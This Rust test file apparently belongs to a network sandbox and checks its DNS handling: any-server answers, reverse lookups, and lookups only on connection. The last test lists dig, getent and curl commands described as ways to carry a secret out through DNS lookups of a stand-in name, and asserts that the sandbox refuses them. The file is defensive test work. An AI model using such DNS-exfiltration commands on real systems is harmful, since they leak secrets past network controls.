//! Names inside: every name server is ours, and the host's resolver is asked
//! only for what is allowed, and only when it is connected to.

use ringfence_audit::Verdict;

use super::Host;

const ALLOW: [&str; 2] = ["--allow", "web.example.org"];

#[test]
fn any_name_server_answers_over_udp_and_tcp() {
    let host = Host::new();
    let ask = "for server in 192.168.7.53 45.0.0.53 9.9.9.9 2a0f:ffff::53 2620:fe::fe; do
        for way in +notcp +tcp; do
            dig +short +tries=1 $way @$server web.example.org A
            dig +short +tries=1 $way @$server web.example.org AAAA
        done
    done | sort | uniq -c | sed 's/^ *//'; dig +short web.example.org";
    let run = host.run(&ALLOW, ask).expect_code(0);
    let lines: Vec<&str> = run.stdout().lines().collect();
    // One address of each kind, whoever is asked.
    let [four, six, usual] = lines[..] else {
        panic!("{lines:?}")
    };
    assert!(four.starts_with("10 198.18."), "{four}");
    assert!(six.starts_with("10 fd"), "{six}");
    assert_eq!(format!("10 {usual}"), four);
    host.sent_nothing();
}

/// All are asked before the first answer is read.
const MANY: &str = "import socket, struct
def question(number):
    labels = f'n{number}.example.org'.split('.')
    name = b''.join(bytes([len(label)]) + label.encode() for label in labels)
    asked = struct.pack('>6H', number, 0x100, 1, 0, 0, 0) + name + struct.pack('>BHH', 0, 1, 1)
    return struct.pack('>H', len(asked)) + asked
stream = socket.create_connection(('9.9.9.9', 53), 60)
stream.sendall(b''.join(map(question, range(1000))))
stream.shutdown(socket.SHUT_WR)
said = b''
while more := stream.recv(65536):
    said += more
answered = set()
while said:
    length, number = struct.unpack('>HH', said[:4])
    answered.add(number)
    said = said[2 + length:]
print(len(answered))
";

#[test]
fn g11_a_thousand_questions_over_one_connection_are_answered() {
    let host = Host::new();
    host.write("many.py", MANY);
    let run = host.run(&ALLOW, "/usr/bin/python3 many.py").expect_code(0);
    assert_eq!(run.stdout(), "1000\n");
    host.sent_nothing();
}

#[test]
fn other_questions_have_empty_answers() {
    let host = Host::new();
    let kinds = ["HTTPS", "SVCB", "ANY", "TXT", "MX", "NS", "SOA", "CNAME"];
    for name in ["web.example.org", "other.test"] {
        let script = format!(
            "for kind in {}; do dig {name} $kind; done | grep -oE 'status: \\w+|ANSWER: \\w+' | uniq -c",
            kinds.join(" ")
        );
        let run = host.run(&ALLOW, &script).expect_code(0);
        let lines = run.stdout().lines().map(str::trim);
        let wanted = ["1 status: NOERROR", "1 ANSWER: 0"];
        assert!(lines.eq(wanted.repeat(kinds.len())), "{}", run.stdout());
    }
    host.sent_nothing();
}

#[test]
fn an_address_leads_back_to_its_name() {
    let host = Host::new();
    let script = "for kind in A AAAA; do
            dig +short -x $(dig +short web.example.org $kind)
            dig +short -x $(dig +short other.test $kind)
        done
        getent hosts $(dig +short web.example.org) | tr -s ' ' | cut -d ' ' -f 2
        dig -x 45.0.0.10 | grep -c NXDOMAIN";
    let run = host.run(&ALLOW, script).expect_code(0);
    let names = "web.example.org.\nother.test.\n".repeat(2);
    assert_eq!(run.stdout(), format!("{names}web.example.org\n1\n"));
    host.sent_nothing();
}

#[test]
fn the_system_resolver_finds_names() {
    let host = Host::new();
    let script = "getent ahostsv4 web.example.org | grep -c ^198.18.
        getent hosts localhost | grep -cE '^(127.0.0.1|::1) '
        getent hosts host.ringfence.internal | wc -l
        /usr/bin/python3 -c '
import socket
found = socket.getaddrinfo(\"web.example.org\", 443, type=socket.SOCK_STREAM)
print(sorted(family.name for family, *_ in found))
print(socket.gethostbyaddr(found[0][4][0])[0])'";
    let run = host.run(&ALLOW, script).expect_code(0);
    let shown = "3\n1\n1\n['AF_INET', 'AF_INET6']\nweb.example.org\n";
    assert_eq!(run.stdout(), shown);
    host.sent_nothing();
}

#[test]
fn names_are_resolved_when_they_are_connected_to() {
    let host = Host::new();
    let run = host.run(
        &ALLOW,
        "dig +short web.example.org; dig web.example.org AAAA",
    );
    run.expect_code(0);
    host.sent_nothing();
    for flags in ["", "--noproxy '*'"] {
        let script = format!("curl -sSf {flags} http://web.example.org/");
        host.run(&ALLOW, &script).expect_code(0);
        let mut queries: Vec<String> = host
            .net()
            .dns_log()
            .iter()
            .map(ToString::to_string)
            .collect();
        queries.sort();
        assert_eq!(
            queries,
            ["web.example.org A", "web.example.org AAAA"],
            "{flags}"
        );
    }
}

/// Ways to get a name to a resolver; each would carry a secret out.
const WAYS: [&str; 10] = [
    "dig +tries=1 +time=1 $name",
    "dig +tries=1 +time=1 +tcp $name AAAA",
    "dig +tries=1 +time=1 @192.168.7.53 $name",
    "dig +tries=1 +time=1 +tcp @45.0.0.53 $name TXT",
    "getent hosts $name",
    "curl -m 5 http://$name/",
    "curl -m 5 https://$name/",
    "curl -m 5 --noproxy '*' http://$name/",
    "curl -m 5 --noproxy '*' https://$name/",
    "curl -m 5 -x socks5h://localhost:1080 http://$name/",
];

#[test]
fn g2_a_name_that_is_not_allowed_never_reaches_the_resolver() {
    let host = Host::new();
    host.net().zone().set("secret.bad.test", "45.0.0.10");
    // Each works where there is no sandbox.
    for way in &WAYS[..9] {
        host.net().forget();
        host.online
            .outside(&format!("name=secret.bad.test; {way}"))
            .expect_code(0);
        let queries = host.net().dns_queries();
        assert!(
            queries.contains(&"secret.bad.test".to_owned()),
            "{way}: {queries:?}"
        );
    }
    let attack = format!("name=secret.bad.test; {}; true", WAYS.join("; "));
    for flags in [
        &ALLOW[..],
        &["--allow", "*.bad.test", "--deny", "secret.bad.test"],
        &["--allow", "**.bad.test", "--deny", "*.bad.test"],
    ] {
        let run = host.run(flags, &attack).expect_code(0);
        let told = run.told();
        assert_eq!(told.len(), 5, "{told:?}");
        assert!(
            told.iter()
                .all(|one| one.starts_with("refused secret.bad.test:"))
        );
        assert!(
            run.lookups(Verdict::Refused)
                .contains(&"secret.bad.test".to_owned())
        );
        host.sent_nothing();
    }
}
